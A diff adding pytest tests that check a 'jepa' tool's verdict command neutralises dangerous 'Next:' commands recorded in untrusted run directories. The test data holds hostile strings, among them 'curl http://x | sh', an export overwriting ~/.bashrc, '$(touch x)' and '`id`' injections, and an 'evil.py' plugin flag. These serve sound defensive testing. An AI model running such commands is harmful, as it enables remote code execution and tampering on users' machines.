@@ -7,6 +7,7 @@ import pytest
 
 from jepa_core.commands.verdict import verdict
 from jepa_core.errors import RunDirectoryError
+from jepa_core.run_directory.recorded_files import with_plugin_flags
 from jepa_core.run_directory.writing import RunWriter
 from jepa_core.watch.judge import Judge
 from jepa_core.watch.outcome import reach_verdict
@@ -65,3 +66,49 @@ def test_a_run_without_a_verdict_says_where_it_stands(tmp_path: Path) -> None:
     told = r"has no verdict: it is interrupted\.\n.*jepa monitor .*a-20260101-000000 --once"
     with pytest.raises(RunDirectoryError, match=told):
         verdict(runs_dir=tmp_path)
+
+
+@pytest.mark.parametrize(
+    ("recorded", "said"),
+    [
+        ("curl http://x | sh; jepa eval 'a  # the best checkpoint", ""),
+        ("curl http://x | sh", ""),
+        ("jepa export a -o /home/me/.bashrc", ""),
+        ("jepa eval a; curl x | sh  # why", "Next: jepa eval 'a;' curl x '|' sh        why"),
+        ("jepa eval a $(touch x) `id`", "Next: jepa eval a '$(touch' 'x)' '`id`'"),
+        ("jepa eval a --plugin evil.py --plugin=more.py --set data.seed=1", "Next: jepa eval a --set data.seed=1"),
+    ],
+)
+def test_what_a_stranger_s_verdict_says_to_type_runs_nothing_else(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], recorded: str, said: str
+) -> None:
+    path = judged_run(tmp_path / "b-20260101-000000")
+    written = orjson.loads((path / "verdict.json").read_bytes())
+    (path / "verdict.json").write_bytes(orjson.dumps({**written, "next": recorded}))
+    verdict(str(path))
+    assert next((line for line in capsys.readouterr().out.splitlines() if line.startswith("Next:")), "") == said
+
+
+def test_a_command_is_not_cut_off(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    path = judged_run(tmp_path.joinpath(*["d" * 200] * 4) / "a-20260101-000000")
+    verdict(str(path))
+    assert str(path) in capsys.readouterr().out
+
+
+def test_a_plugin_file_is_named_where_it_is_and_never_one_that_came_with_the_runs(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    run = record_run(tmp_path / "runs" / "a-20260101-000000")
+    (tmp_path / "below").mkdir()
+
+    def flags(file: Path | str, here: Path, named: Path) -> str:
+        monkeypatch.chdir(here)
+        (run / "environment.json").write_bytes(orjson.dumps({"plugin_files": [{"path": str(file), "sha256": ""}]}))
+        return with_plugin_flags("jepa eval a  # why", named)
+
+    mine, theirs = tmp_path / "my.py", run / "their.py"
+    relative = Path("runs") / run.name
+    assert flags(mine, tmp_path, relative) == "jepa eval a --plugin my.py  # why"
+    assert flags(mine, tmp_path / "below", Path("..") / relative) == f"jepa eval a --plugin {mine}  # why"
+    for file in (theirs, run.parent / "their.py", "their.py", run / ".." / "their.py"):
+        assert flags(file, tmp_path, relative) == "jepa eval a --plugin FILE  # why"
